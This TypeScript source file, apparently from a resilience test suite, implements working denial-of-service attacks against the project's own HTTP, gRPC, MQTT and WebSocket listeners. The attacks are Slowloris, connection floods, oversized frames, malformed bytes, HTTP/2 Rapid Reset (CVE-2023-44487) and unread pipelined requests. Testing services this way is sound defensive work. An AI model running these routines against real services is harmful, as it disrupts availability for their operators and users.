import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2';
import type { Socket } from 'node:net';
import { type AbuseTarget, addresses, connectionTo, pour, until, upgrade } from './abuse-target.js';
import type { Attack } from './attack.js';
import { halfOpen } from './half-open-peers.js';

const manyConnections = 200;
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** SETTINGS without any. */
const settings = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);

/** An upgrade, and the head of a binary frame whose bytes are all masked with 0. */
const frame = (...length: readonly number[]): Buffer =>
  Buffer.concat([upgrade, Buffer.from([0x82, ...length, 0, 0, 0, 0])]);

const post = ({ good }: AbuseTarget, headers: string): Buffer =>
  Buffer.from(`POST ${good?.path ?? '/x'} HTTP/1.1\r\nhost: localhost\r\n${headers}`);

type Bytes = Readonly<Record<AbuseTarget['speaks'], (target: AbuseTarget) => Buffer>>;

/** The first bytes of each protocol, for clients that never complete a request. */
const openings: Bytes = {
  http: (target) => post(target, 'x-slow: '),
  grpc: () => Buffer.concat([preface, settings, Buffer.from([0, 255, 0, 1, 4, 0, 0, 0, 1])]),
  // A CONNECT of 200 bytes.
  mqtt: () => Buffer.from([0x10, 0xc8, 0x01, 0, 4, 0x4d, 0x51, 0x54, 0x54, 4, 2]),
  // A frame of 1,024 bytes.
  websocket: () => frame(0xfe, 4, 0),
};

/** Endless input that has to be rejected. */
const endless: Bytes = {
  http: (target) => post(target, 'content-type: application/json\r\ncontent-length: 999999999\r\n\r\n['),
  // HEADERS that are continued for ever.
  grpc: () => Buffer.concat([preface, settings, Buffer.from([0, 0, 1, 1, 0, 0, 0, 0, 1, 0x83])]),
  // A packet of 256 MB.
  mqtt: () => Buffer.from([0x10, 0xff, 0xff, 0xff, 0x7f]),
  // A frame of 256 MB.
  websocket: () => frame(0xff, 0, 0, 0, 0, 0x10, 0, 0, 0),
};

const page = Buffer.alloc(64 * 1024, 1);
const more: Readonly<Record<AbuseTarget['speaks'], Buffer>> = {
  http: Buffer.alloc(64 * 1024, ' '),
  grpc: Buffer.concat([Buffer.from([0, 0x3e, 0x80, 9, 0, 0, 0, 0, 1]), Buffer.alloc(16_000, 0x10)]),
  mqtt: page,
  websocket: page,
};

const open = (target: AbuseTarget): Socket => connectionTo(target, addresses.abuser).resume();

/** Many connections that send a byte from time to time (Slowloris). */
const slowloris: Attack = {
  name: 'slowloris',
  run: async (target, forMs) => {
    const end = performance.now() + forMs;
    const sockets = Array.from({ length: manyConnections }, () => open(target));
    for (const socket of sockets) socket.write(openings[target.speaks](target));
    while (performance.now() < end) {
      for (const socket of sockets.filter(({ writable }) => writable)) socket.write('a');
      await until(performance.now() + 50);
    }
    for (const socket of sockets) socket.destroy();
  },
};

/** New connections without pause, each with an incomplete request. */
const flood: Attack = {
  name: 'flood of connections',
  run: async (target, forMs) => {
    const end = performance.now() + forMs;
    while (performance.now() < end) {
      const sockets = Array.from({ length: 20 }, () => open(target));
      for (const socket of sockets) socket.end(openings[target.speaks](target));
      await until(performance.now() + 10);
      for (const socket of sockets) socket.destroy();
    }
  },
};

/** Four connections that send too much; closed ones reconnect. */
const oversize: Attack = {
  name: 'oversize',
  run: async (target, forMs) => {
    const end = performance.now() + forMs;
    const work = async () => {
      while (performance.now() < end) {
        const socket = open(target);
        socket.write(endless[target.speaks](target));
        await pour(socket, more[target.speaks], end);
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: 4 }, work));
  },
};

/** Random bytes and wrong protocols; deterministic. */
const malformed: Attack = {
  name: 'malformed',
  run: async (target, forMs) => {
    const end = performance.now() + forMs;
    for (let seed = 1; performance.now() < end; seed += 1) {
      const noise = Buffer.from(Array.from({ length: 300 }, (_, at) => (seed * 31 + at * at * 17) % 256));
      const socket = open(target);
      socket.end(seed % 2 === 0 ? noise : Buffer.concat([openings[target.speaks](target), noise]));
      await until(performance.now() + 5);
      socket.destroy();
    }
  },
};

const isOpen = ({ closed, destroyed }: ClientHttp2Session): boolean => !closed && !destroyed;

const health = {
  ':method': 'POST',
  ':path': '/grpc.health.v1.Health/Check',
  'content-type': 'application/grpc',
};

function takeBack(session: ClientHttp2Session): void {
  for (let call = 0; call < 50 && isOpen(session); call += 1)
    session
      .request(health)
      .on('error', () => undefined)
      .close(constants.NGHTTP2_CANCEL);
}

/** Calls that are reset at once (CVE-2023-44487); closed connections reconnect. */
const rapidReset: Attack = {
  name: 'rapid reset',
  run: async (target, forMs) => {
    const end = performance.now() + forMs;
    while (performance.now() < end) {
      const session = connectHttp2('http://localhost', {
        createConnection: () => connectionTo(target, addresses.abuser),
      });
      session.on('error', () => undefined);
      while (performance.now() < end && isOpen(session)) {
        takeBack(session);
        await until(performance.now() + 1);
      }
      session.destroy();
    }
  },
};

/** Many connections that pipeline requests and read no response. */
const unread: Attack = {
  name: 'unread responses',
  run: async (target, forMs) => {
    const end = performance.now() + forMs;
    const request = `GET ${target.good?.path ?? '/healthz'} HTTP/1.1\r\nhost: localhost\r\n\r\n`;
    const requests = Buffer.from(request.repeat(1_000));
    const sockets = Array.from({ length: manyConnections }, () => connectionTo(target, addresses.abuser));
    await Promise.all(sockets.map((socket) => pour(socket, requests, end)));
    for (const socket of sockets) socket.destroy();
  },
};

/** The attacks applicable to a listener. */
export const attacksOn = ({ speaks }: AbuseTarget): readonly Attack[] => [
  slowloris,
  flood,
  oversize,
  malformed,
  halfOpen,
  ...(speaks === 'grpc' ? [rapidReset] : []),
  ...(speaks === 'http' ? [unread] : []),
];
